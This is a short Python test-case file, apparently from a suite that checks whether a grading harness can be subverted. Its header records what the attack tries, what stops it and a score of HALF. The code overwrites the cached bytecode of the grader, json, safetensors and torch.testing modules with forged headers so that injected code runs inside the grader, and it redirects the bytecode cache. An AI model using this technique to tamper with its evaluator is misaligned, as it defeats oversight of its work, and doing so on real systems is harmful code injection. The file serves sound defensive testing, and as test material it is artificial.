# Tries: to have the grader run its code, by bytecode under the names and time stamps of grader's, torch's and the
#   standard library's own modules, and by a cache of bytecode in a place of its own.
# Stopped by: a read-only environment; and the grader reads no bytecode that a worker could write.
# Score: HALF
# Process: no, whoever grades may write to the environment, and so may a plain process
# Place: after
import importlib.util
import marshal
import os
import struct
import sys

CODE = compile("import os; open('/tmp/attack-bytecode-ran', 'w').close()", "attack", "exec")
written = 0
for module in list(sys.modules.values()):
    source = getattr(module, "__file__", None) or ""
    if not source.endswith(".py") or not module.__name__.startswith(("grader", "json", "safetensors", "torch.testing")):
        continue
    try:
        status = os.stat(source)
        header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(status.st_mtime), status.st_size)
        with open(importlib.util.cache_from_source(source), "r+b") as file:
            file.write(header + marshal.dumps(CODE))
        written += 1
    except OSError:
        pass
sys.pycache_prefix = os.getcwd()
sys.dont_write_bytecode = False
